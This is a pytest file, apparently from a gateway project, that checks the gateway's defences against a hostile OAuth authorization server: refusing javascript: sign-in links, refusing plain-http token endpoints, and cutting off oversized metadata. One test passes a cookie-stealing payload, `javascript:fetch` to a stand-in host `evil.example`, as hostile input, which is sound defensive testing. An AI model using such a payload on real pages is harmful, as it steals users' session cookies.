"""A hostile authorization server (issue 14, item 4), end to end through the built gateway.

The upstream is fixtures/oauth_server.py with its hostile switches. The gateway must:

- never offer (nor open) a sign-in link that is not http(s): a `javascript:` authorization
  endpoint is refused with the reason, in the admin API and `upstream list`;
- never send codes or tokens to an endpoint that is plain http off this machine;
- stop reading a metadata document as it passes 1 MiB (the fixture streams 300 MB with no
  length): the gateway's memory stays small and it says why it gave up.
"""

from __future__ import annotations

import itertools
import json
import os
import subprocess
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

import harness
from admin import Admin

pytestmark = pytest.mark.gateway

@pytest.fixture
def hostile_as(tmp_path: Path) -> Iterator[Callable[..., tuple[str, Path]]]:
    """Factory: hostile_as(*switches) starts the fixture; returns (its MCP URL, its events file)."""
    count = itertools.count()
    with ExitStack() as running:

        def start(*switches: str) -> tuple[str, Path]:
            events = tmp_path / f"events-{next(count)}.jsonl"
            return running.enter_context(harness.oauth_fixture(events, *switches)), events

        yield start


def events_of(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


def refused(gateway, url: str, what: str) -> dict:
    """Starts a gateway with `url` as the server `remote`, approves it, and waits until it says
    why it cannot sign in (`what` in its last error); returns that view."""
    gw = gateway('[gateway]\nsurface = "direct"\n\n' + harness.http_upstream("remote", url, transport="streamable-http"), trust=False)
    admin = Admin.of(gw)
    admin.approve_server("remote")
    view = admin.wait_for("remote", lambda s: what in (s.get("last_error") or ""), f"refusing ({what})")
    assert view["state"] != "ready", view
    listed = subprocess.run([str(harness.gateway_bin()), "upstream", "list"], env={**os.environ, "PORTCULLIS_HOME": str(gw.home)}, capture_output=True, text=True, timeout=60)
    assert listed.returncode == 0, listed.stderr
    view["listed"] = listed.stdout
    view["gateway"] = gw
    return view


def test_a_javascript_sign_in_link_is_never_offered(gateway, hostile_as) -> None:
    url, events = hostile_as("--authorization-endpoint", "javascript:fetch('//evil.example/'+document.cookie)")
    view = refused(gateway, url, "authorization_endpoint")
    error = view["last_error"]
    assert "javascript:" in error and "neither https nor http on this machine's loopback" in error, error
    assert not view.get("sign_in_url"), view
    assert "javascript:" not in view["listed"] or "neither https nor http" in view["listed"], view["listed"]
    assert [e["event"] for e in events_of(events)].count("register") == 0, "the gateway registered with a server it refused"


def test_no_code_or_token_goes_to_plain_http_off_this_machine(gateway, hostile_as) -> None:
    url, events = hostile_as("--token-endpoint", "http://auth.example.invalid/token")
    view = refused(gateway, url, "token_endpoint")
    assert "http://auth.example.invalid/token" in view["last_error"], view["last_error"]
    assert not view.get("sign_in_url"), "a sign-in that would end at a plain-http token endpoint was offered"
    kinds = [e["event"] for e in events_of(events)]
    assert "register" not in kinds and "authorize" not in kinds, kinds


def test_a_huge_metadata_document_is_cut_off_as_it_passes_the_limit(gateway, hostile_as) -> None:
    url, events = hostile_as("--metadata-mb", "300")
    view = refused(gateway, url, "larger than 1024 KiB")
    gw = view["gateway"]
    assert rss_mb(gw.proc.pid) < 150, f"the gateway holds {rss_mb(gw.proc.pid):.0f} MB after a 300 MB document"
    sent = [e["bytes"] for e in events_of(events) if e["event"] == "metadata_sent"]
    # The server could push what the sockets' buffers hold past the point the gateway stopped.
    assert sent and max(sent) < 64 * 1024 * 1024, f"the gateway read on: {sent}"
